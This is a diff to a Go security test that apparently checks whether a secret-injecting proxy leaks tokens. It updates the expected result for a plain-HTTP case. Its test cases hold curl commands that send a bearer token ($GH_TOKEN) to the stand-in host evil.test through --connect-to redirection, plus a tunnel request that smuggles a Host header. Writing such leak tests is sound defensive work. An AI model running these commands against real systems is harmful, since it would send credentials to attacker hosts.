@@ -447,8 +447,9 @@ func TestSecretEscapeRedirect(t *testing.T) {
 		// The transparent path: the secret host's address for evil's name.
 		{name: "transparent, the secret host's address for evil", cmd: `curl -sSk --max-time 10 --noproxy '*' --connect-to evil.test:443:example.com:443 -H "Authorization: Bearer $GH_TOKEN" https://evil.test/r28; echo " rc=$?"`, path: "/r28", want: []string{"rc=35"}},
 		// The transparent path, plain HTTP to the secret's host: the proxy
-		// expects TLS to a secret's host there, so the request goes nowhere.
-		{name: "transparent, plain HTTP", cmd: `curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GH_TOKEN" http://api.example.com/r29; echo " rc=$?"`, path: "/r29", want: []string{"rc=52"}},
+		// sees an HTTP request, not TLS, and serves it as such, to the
+		// secret's host only.
+		{name: "transparent, plain HTTP", cmd: `curl -sS --max-time 10 --noproxy '*' -H "Authorization: Bearer $GH_TOKEN" http://api.example.com/r29; echo " rc=$?"`, path: "/r29", want: []string{"rc=0"}, reach: []string{"api.example.com"}},
 		// In a terminated tunnel, another secret's stand-in as the Host: the proxy reads no Host (the tunnel's host is the destination), so it goes, a stand-in.
 		{name: "limit: a stand-in as the Host in the tunnel", cmd: tunnelAttack("connect", "example.com", tp, "example.com", httpReq("GET", "/r30", "Host: {W}\r\n", "")), path: "/r30", reach: []string{"example.com"}},
 	}
